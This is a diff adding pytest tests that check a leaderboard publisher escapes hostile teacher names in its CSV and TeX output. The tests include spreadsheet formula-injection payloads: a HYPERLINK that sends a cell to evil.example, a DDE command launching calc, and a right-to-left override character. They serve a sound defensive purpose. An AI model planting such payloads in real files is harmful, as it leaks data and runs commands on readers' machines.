@@ -90,3 +90,66 @@ def test_publish_exit_codes(tmp_path: Path, capsys: pytest.CaptureFixture[str]) 
     errors = capsys.readouterr().err.strip().splitlines()
     assert len(errors) == 2 and all(e.startswith("precompute: error: ") for e in errors)
     assert not (tmp_path / "c").exists()
+
+
+# --- what the files hold when the names are hostile (issue 24) -----------------------------------
+
+#: Teacher names a spreadsheet would run, TeX would misread, or a screen would reverse.
+HOSTILE = {
+    "ace": '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    "twin-a": "+cmd|' /C calc'!A0",
+    "twin-b": "[draft] Café\u202eR @SUM(1+1)",
+}
+
+
+def hostile_store(root: Path) -> Path:
+    from legival_core.store import Store
+    from precompute.stages.metrics import teacher_table
+
+    store = Store.create(root, config={"synthetic": True})
+    efficiency = hand_worked_efficiency()
+    efficiency["teacher"] = efficiency["teacher"].map(HOSTILE)
+    store.write("trace_efficiency", efficiency, stage="metrics")
+    teachers = teacher_table(
+        store.read("trace_efficiency"), pd.DataFrame(), "paper", "interpolate", 0
+    )
+    store.write("teacher_metrics", teachers, stage="metrics")
+    return store.path
+
+
+def test_publish_csv_has_no_live_formula(tmp_path: Path) -> None:
+    """Item 12: names like =HYPERLINK(…), +cmd|… and @SUM(…) were written verbatim."""
+    import csv
+
+    out = tmp_path / "site"
+    store = hostile_store(tmp_path / "hostile")
+    assert main(["publish", "--store", str(store), "--out", str(out), "--resamples", "20"]) == 0
+    with open(out / "leaderboard.csv", newline="", encoding="utf-8") as handle:
+        rows = list(csv.reader(handle))
+    header, body = rows[0], rows[1:]
+    teachers = {row[header.index("teacher")] for row in body}
+    assert teachers == {"'" + name for name in HOSTILE.values() if name[0] in "=+-@"} | {
+        HOSTILE["twin-b"]
+    }
+    for cell in [c for row in rows for c in row]:
+        try:
+            float(cell)
+            continue  # a number, e.g. -0.5, is not a formula
+        except ValueError:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+
+
+def test_publish_tex_is_ascii_and_every_special_is_escaped(tmp_path: Path) -> None:
+    """Item 11: é and U+202E passed raw, and a cell starting with [ right after \\\\ was read
+    as the optional argument of the line break."""
+    import re
+
+    out = tmp_path / "site"
+    store = hostile_store(tmp_path / "hostile")
+    assert main(["publish", "--store", str(store), "--out", str(out), "--resamples", "20"]) == 0
+    tex = (out / "leaderboard.tex").read_text(encoding="utf-8")
+    assert tex.isascii()
+    assert r"{[}draft{]} Caf\'{e}{[}U+202E{]}R @SUM(1+1)" in tex
+    assert r"=HYPERLINK(\textquotedbl{}http://evil.example/?\textquotedbl{}\&A1" in tex
+    assert r"+cmd\textbar{}' /C calc'!A0" in tex
+    assert re.findall(r"(?<!\{)[\[\]](?!\})", tex) == []  # every bracket braced
